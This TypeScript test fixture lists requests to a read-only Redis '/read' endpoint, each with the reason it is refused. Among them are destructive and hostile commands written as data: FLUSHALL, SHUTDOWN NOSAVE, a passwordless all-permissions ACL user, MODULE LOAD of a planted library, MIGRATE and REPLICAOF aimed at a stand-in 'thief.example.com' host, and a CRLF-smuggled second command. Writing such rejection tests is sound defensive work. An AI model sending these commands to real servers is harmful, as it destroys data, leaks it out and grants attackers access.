/** Requests that try to change something on `/read`, each with why it fails. */

/** One attempt. */
interface Attack {
  readonly name: string;
  /** As a client sends it to `/read`. */
  readonly request: { readonly type?: string; readonly [member: string]: unknown };
  /** Why it fails. */
  readonly because: string;
}

const FLAGS = 'its flags say that it writes';
const OPTION = 'it writes with an option, so that it is a write with or without';
const UNFLAGGED = 'no flag says that it writes, and none says that it only reads';
const SCRIPT = 'scripts write, those that are said to only read too: they can call all that lies';
const LIAR = 'its flags say that it only reads, which is not so: it is listed by name';
const NAME = 'the name is the same however it is written';
const UNKNOWN = 'what is not known may do anything';
const PIPELINE = 'a pipeline writes when one of its commands does';
const STATE = 'it leaves something on the connection, or ends it';
const ADMIN = 'its flags say that it is for administrators';

const words = (type: string, ...args: unknown[]) => ({ type, args });
const bytes = (text: string) => ({ $bytes: btoa(text) });

/** At least thirty of them. Contract §6. */
export const ATTACKS: readonly Attack[] = [
  { name: 'SET', request: { type: 'SET', key: 'victim', value: 'x' }, because: FLAGS },
  { name: 'SET by its words', request: words('set', 'victim', 'x'), because: FLAGS },
  { name: 'GETDEL', request: { type: 'GETDEL', key: 'victim' }, because: FLAGS },
  { name: 'GETSET', request: words('GETSET', 'victim', 'x'), because: FLAGS },
  {
    name: 'GETEX that takes the expiry away',
    request: words('GETEX', 'volatile', 'PERSIST'),
    because: FLAGS,
  },
  {
    name: 'SORT … STORE',
    request: { type: 'sort', key: 'victims', store: 'stolen' },
    because: OPTION,
  },
  {
    name: 'SORT by its words',
    request: words('SORT', 'victims', 'ALPHA', 'STORE', 'stolen'),
    because: OPTION,
  },
  {
    name: 'GEORADIUS … STORE',
    request: words('GEORADIUS', 'places', 0, 0, 9000, 'km', 'STORE', 'stolen'),
    because: OPTION,
  },
  {
    name: 'GEOSEARCHSTORE',
    request: words(
      'GEOSEARCHSTORE',
      'stolen',
      'places',
      'FROMLONLAT',
      0,
      0,
      'BYRADIUS',
      9000,
      'km',
    ),
    because: FLAGS,
  },
  {
    name: 'BITFIELD … SET',
    request: words('BITFIELD', 'victim', 'SET', 'u8', 0, 255),
    because: OPTION,
  },
  {
    name: 'XREADGROUP',
    request: words('XREADGROUP', 'GROUP', 'g', 'thief', 'STREAMS', 'stream', '>'),
    because: OPTION,
  },
  {
    name: 'LMPOP',
    request: { type: 'LMPOP', keys: ['victims'], direction: 'Left' },
    because: FLAGS,
  },
  { name: 'SPOP', request: words('SPOP', 'set'), because: FLAGS },
  { name: 'COPY', request: words('COPY', 'victim', 'stolen', 'REPLACE'), because: FLAGS },
  { name: 'RESTORE', request: words('RESTORE', 'stolen', 0, bytes('x')), because: FLAGS },
  { name: 'SUNIONSTORE', request: words('SUNIONSTORE', 'stolen', 'set'), because: FLAGS },
  { name: 'PFMERGE', request: words('PFMERGE', 'stolen', 'log'), because: FLAGS },
  {
    name: 'EVAL',
    request: words('EVAL', "return redis.call('SET','victim','x')", 0),
    because: SCRIPT,
  },
  {
    name: 'EVAL_RO that calls what lies',
    request: words('EVAL_RO', "return redis.call('FT.DICTADD','words','x')", 0),
    because: SCRIPT,
  },
  {
    name: 'EVAL_RO that changes a setting',
    request: words('EVAL_RO', "return redis.call('FT.CONFIG','SET','TIMEOUT','501')", 0),
    because: SCRIPT,
  },
  {
    name: 'EVAL_RO that forgets the slow log',
    request: words('eval_ro', "return redis.call('SLOWLOG','RESET')", 0),
    because: SCRIPT,
  },
  { name: 'EVALSHA_RO', request: words('EVALSHA_RO', '0'.repeat(40), 0), because: SCRIPT },
  { name: 'FCALL', request: words('FCALL', 'thief', 0), because: SCRIPT },
  { name: 'FCALL_RO', request: words('FCALL_RO', 'thief', 0), because: SCRIPT },
  { name: 'SCRIPT LOAD', request: words('SCRIPT LOAD', 'return 1'), because: UNFLAGGED },
  { name: 'SCRIPT FLUSH', request: words('SCRIPT', 'FLUSH'), because: UNFLAGGED },
  { name: 'PUBLISH', request: words('PUBLISH', 'channel', 'x'), because: UNFLAGGED },
  { name: 'SPUBLISH', request: words('SPUBLISH', 'channel', 'x'), because: UNFLAGGED },
  { name: 'CONFIG SET', request: words('CONFIG', 'SET', 'maxmemory', '1mb'), because: ADMIN },
  { name: 'CONFIG RESETSTAT', request: words('config resetstat'), because: ADMIN },
  { name: 'FLUSHALL', request: words('FLUSHALL'), because: FLAGS },
  { name: 'SWAPDB', request: words('SWAPDB', 0, 1), because: FLAGS },
  {
    name: 'ACL SETUSER',
    request: words('ACL', 'SETUSER', 'thief', 'on', '+@all', '~*', 'nopass'),
    because: ADMIN,
  },
  { name: 'CLIENT KILL', request: words('CLIENT', 'KILL', 'SKIPME', 'yes'), because: ADMIN },
  { name: 'CLIENT PAUSE', request: words('CLIENT PAUSE', 100), because: ADMIN },
  { name: 'CLIENT SETNAME', request: words('CLIENT SETNAME', 'thief'), because: STATE },
  { name: 'CLIENT REPLY', request: words('CLIENT', 'REPLY', 'OFF'), because: STATE },
  { name: 'SELECT', request: words('SELECT', 1), because: STATE },
  { name: 'MULTI', request: words('MULTI'), because: STATE },
  { name: 'DEBUG', request: words('DEBUG', 'CHANGE-REPL-ID'), because: ADMIN },
  { name: 'SHUTDOWN', request: words('SHUTDOWN', 'NOSAVE'), because: ADMIN },
  { name: 'MEMORY PURGE', request: words('MEMORY', 'PURGE'), because: UNFLAGGED },
  { name: 'SLOWLOG RESET', request: words('SLOWLOG', 'RESET'), because: ADMIN },
  { name: 'LATENCY RESET', request: words('LATENCY', 'RESET'), because: ADMIN },
  {
    name: 'FUNCTION LOAD',
    request: words('FUNCTION', 'LOAD', '#!lua name=thief\n'),
    because: FLAGS,
  },
  { name: 'MODULE LOAD', request: words('MODULE', 'LOAD', '/tmp/thief.so'), because: ADMIN },
  { name: 'REPLICAOF', request: words('REPLICAOF', 'thief.example.com', 6379), because: ADMIN },
  {
    name: 'MIGRATE',
    request: words('MIGRATE', 'thief.example.com', 6379, 'victim', 0, 100),
    because: FLAGS,
  },
  { name: 'FT.DICTADD', request: words('FT.DICTADD', 'words', 'x'), because: LIAR },
  { name: 'FT.DICTDEL', request: words('FT.DICTDEL', 'words', 'kept'), because: LIAR },
  { name: 'FT.ALIASADD', request: words('FT.ALIASADD', 'stolen', 'index'), because: LIAR },
  {
    name: 'FT._ALIASADDIFNX',
    request: words('FT._ALIASADDIFNX', 'stolen', 'index'),
    because: LIAR,
  },
  { name: 'FT.ALIASUPDATE', request: words('FT.ALIASUPDATE', 'alias', 'index'), because: LIAR },
  { name: 'FT.CONFIG SET', request: words('FT.CONFIG', 'SET', 'TIMEOUT', '501'), because: LIAR },
  {
    name: 'FT.CONFIG SET in bytes',
    request: words('FT.CONFIG', bytes('sEt'), 'TIMEOUT', '501'),
    because: NAME,
  },
  { name: 'FT.CURSOR DEL', request: words('FT.CURSOR', 'DEL', 'index', 1), because: LIAR },
  { name: 'FT.DEBUG', request: words('FT.DEBUG', 'GC_FORCEINVOKE', 'index'), because: LIAR },
  { name: 'CF.COMPACT', request: words('CF.COMPACT', 'filter'), because: LIAR },
  { name: 'TIMESERIES.CLUSTERSET', request: words('TIMESERIES.CLUSTERSET', 'x'), because: LIAR },
  { name: 'TIMESERIES.REFRESHCLUSTER', request: words('TIMESERIES.REFRESHCLUSTER'), because: LIAR },
  { name: 'TOPK.INCRBY', request: words('TOPK.INCRBY', 'top', 'x', 1), because: FLAGS },
  {
    name: 'JSON.SET',
    request: { type: 'JSON.SET', key: 'document', path: '$', value: 1 },
    because: FLAGS,
  },
  { name: 'VSETATTR', request: words('VSETATTR', 'vectors', 'one', '{}'), because: FLAGS },
  { name: 'a name in capitals and blanks', request: words('  dEl  ', 'victim'), because: NAME },
  {
    name: 'a subcommand after a bar',
    request: words('xgroup|destroy', 'stream', 'g'),
    because: NAME,
  },
  {
    name: 'a subcommand among the words',
    request: words('XGROUP', bytes('DESTROY'), 'stream', 'g'),
    because: NAME,
  },
  { name: 'a command that nobody knows', request: words('HACK', 'victim'), because: UNKNOWN },
  { name: 'two commands in a name', request: words('get victim\r\ndel', 'victim'), because: NAME },
  { name: 'a raw line', request: { type: 'raw_command', command: 'DEL victim' }, because: NAME },
  {
    name: 'a raw line that says it reads',
    request: { type: 'raw_command_read_only', command: 'DEL victim' },
    because: NAME,
  },
  {
    name: 'a pipeline with one write',
    request: {
      pipeline: [
        { type: 'get', key: 'victim' },
        { type: 'del', keys: ['victim'] },
      ],
    },
    because: PIPELINE,
  },
  {
    name: 'a pipeline with a script among reads',
    request: { type: 'pipeline', pipeline: [words('ping'), words('eval_ro', 'return 1', 0)] },
    because: PIPELINE,
  },
];
